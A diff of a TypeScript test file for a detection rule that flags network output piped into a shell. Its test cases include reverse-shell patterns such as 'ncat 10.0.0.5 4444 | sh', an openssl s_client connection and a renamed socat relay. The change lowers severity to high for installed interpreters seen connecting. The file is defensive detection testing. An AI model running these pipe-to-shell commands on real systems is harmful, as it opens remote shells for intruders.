@@ -58,7 +58,7 @@ test('shell.pipe-from-network: ncat 10.0.0.5 4444 | sh is critical in any order 
   assert.match(a!.reason, /which connected to 10\.0\.0\.5:4444: `ncat 10\.0\.0\.5 4444`$/);
 });
 
-test('shell.pipe-from-network: raw tools and unknown programs — loopback high, elsewhere critical', () => {
+test('shell.pipe-from-network: raw tools and dropped programs — loopback high, elsewhere critical; installed programs seen connecting high', () => {
   const loop = pipeline(['nc', '127.0.0.1', '4444'], 510);
   assert.equal(run(loop.w(), loop.c('127.0.0.1', 4444), loop.s()).find((a) => a.ruleId === RULE)?.severity, 'high');
   const ssl = pipeline(['openssl', 's_client', '-quiet', '-connect', '10.0.0.5:443'], 511);
@@ -67,6 +67,9 @@ test('shell.pipe-from-network: raw tools and unknown programs — loopback high,
   const [u] = run(unknown.w(), unknown.c('198.51.100.3', 8443), unknown.s()).filter((a) => a.ruleId === RULE);
   assert.equal(u?.severity, 'critical');
   assert.match(u!.reason, /written by a program updater \(pid 7001\).*connected to 198\.51\.100\.3:8443/);
+  // An installed interpreter seen connecting (a trainer with its peers) is high, not critical.
+  const py = pipeline(['python3', 'emit.py'], 514, ['bash']);
+  assert.equal(run(py.w(), py.c('10.0.0.9', 29500), py.s()).find((a) => a.ruleId === RULE)?.severity, 'high');
   // A renamed copy of socat is socat by content.
   const sha = 'c'.repeat(64);
   const renamed = pipeline(['/tmp/relay', 'TCP:10.0.0.5:4444', '-'], 513, ['bash'], '/tmp/relay', { exeHash: sha });
